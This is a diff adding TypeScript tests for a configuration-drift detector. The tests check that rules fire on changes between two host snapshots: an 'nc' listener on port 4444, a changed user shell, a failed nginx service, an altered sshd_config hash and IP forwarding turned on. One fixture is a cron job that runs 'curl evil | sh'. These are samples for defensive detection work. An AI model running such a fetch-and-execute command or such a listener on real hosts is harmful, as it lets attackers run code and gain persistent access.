@@ -104,3 +104,50 @@ describe("parseDriftConfig", () => {
     expect(parseDriftConfig({})).toBeNull();
   });
 });
+
+describe("drift rules over inventory sections", () => {
+  const changed = diffSnapshots(
+    {
+      packages: [],
+      env: {},
+      ports: [{ proto: "tcp", address: "0.0.0.0", port: 22, process: "sshd" }],
+      users: [{ name: "bob", uid: 1000, gid: 1000, shell: "/bin/bash" }],
+      services: [{ unit: "nginx.service", enabled: "enabled", active: "active" }],
+      jobs: [],
+      files: [{ path: "/etc/ssh/sshd_config", sha256: "a".repeat(64), size: 10, mode: "0644" }],
+      containers: [{ id: "1", name: "web", image: "nginx:1", state: "running" }, { id: "2", name: "db", image: "pg:15", state: "running" }],
+      sysctl: { "net.ipv4.ip_forward": "0" },
+    },
+    {
+      packages: [],
+      env: {},
+      ports: [{ proto: "tcp", address: "0.0.0.0", port: 22, process: "sshd" }, { proto: "tcp", address: "0.0.0.0", port: 4444, process: "nc" }],
+      users: [{ name: "bob", uid: 1000, gid: 1000, shell: "/bin/zsh" }],
+      services: [{ unit: "nginx.service", enabled: "enabled", active: "failed" }],
+      jobs: [{ source: "/etc/cron.d/x", schedule: "* * * * *", command: "curl evil | sh" }],
+      files: [{ path: "/etc/ssh/sshd_config", sha256: "b".repeat(64), size: 10, mode: "0644" }],
+      containers: [{ id: "1", name: "web", image: "nginx:1", state: "running" }],
+      sysctl: { "net.ipv4.ip_forward": "1" },
+    },
+  );
+
+  it.each([
+    [{ target: "ports", pattern: "tcp *:4444" }, "listening ports added tcp 0.0.0.0:4444"],
+    [{ target: "users", changes: ["changed"] }, "users changed bob (shell)"],
+    [{ target: "services", pattern: "nginx*" }, "services changed nginx.service (active)"],
+    [{ target: "jobs", pattern: "*curl*" }, "scheduled jobs added /etc/cron.d/x: * * * * * curl evil | sh"],
+    [{ target: "files", pattern: "/etc/ssh/*" }, "watched files changed /etc/ssh/sshd_config (sha256)"],
+    [{ target: "containers", changes: ["removed"] }, "containers removed db"],
+    [{ target: "sysctl", pattern: "net.*" }, "sysctl changed net.ipv4.ip_forward 0 -> 1"],
+  ] as const)("%o fires: %s", (config, description) => {
+    const rule = parseDriftConfig(config)!;
+    expect(rule).not.toBeNull();
+    expect(matchDriftRule(rule, changed)).toEqual({ fires: true, count: 1, description });
+  });
+
+  it("does not fire for a pattern or a change kind that matches nothing, nor on a diff without the section", () => {
+    expect(matchDriftRule(parseDriftConfig({ target: "ports", pattern: "udp *" })!, changed).fires).toBe(false);
+    expect(matchDriftRule(parseDriftConfig({ target: "containers", changes: ["added"] })!, changed).fires).toBe(false);
+    expect(matchDriftRule(parseDriftConfig({ target: "ports" })!, diff()).fires).toBe(false);
+  });
+});
